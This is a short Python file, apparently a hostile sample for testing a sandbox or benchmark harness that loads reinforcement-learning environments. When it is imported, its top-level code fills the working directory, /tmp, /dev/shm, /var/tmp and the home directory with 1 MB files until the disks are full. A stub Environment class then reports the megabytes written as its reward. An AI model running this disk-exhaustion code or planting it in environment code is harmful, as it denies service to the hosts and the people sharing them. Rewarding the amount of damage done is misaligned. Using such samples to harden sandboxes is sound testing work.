"""Attack: fill every writable place (cwd, /tmp, /dev/shm, /var/tmp, home) with 1 MB files until
the disk is full. Reports the megabytes it managed to write as the reward."""

import os

WRITTEN = 0
block = b"x" * (1024 * 1024)
for n, folder in enumerate((os.getcwd(), "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"))):
    for i in range(100_000):
        try:
            name = f"cwmb-hostile-fill-{i}" if n == 0 else f"cwmb-hostile-fill-{n}-{i}"
            with open(os.path.join(folder, name), "wb") as handle:
                handle.write(block)
                handle.flush()
                os.fsync(handle.fileno())
            WRITTEN += 1
        except OSError:
            break


class Environment:
    def set_state(self, state):
        self.state = state

    def step(self, action):
        return [0.0, 0.0, 0.0, 0.0], float(WRITTEN), False
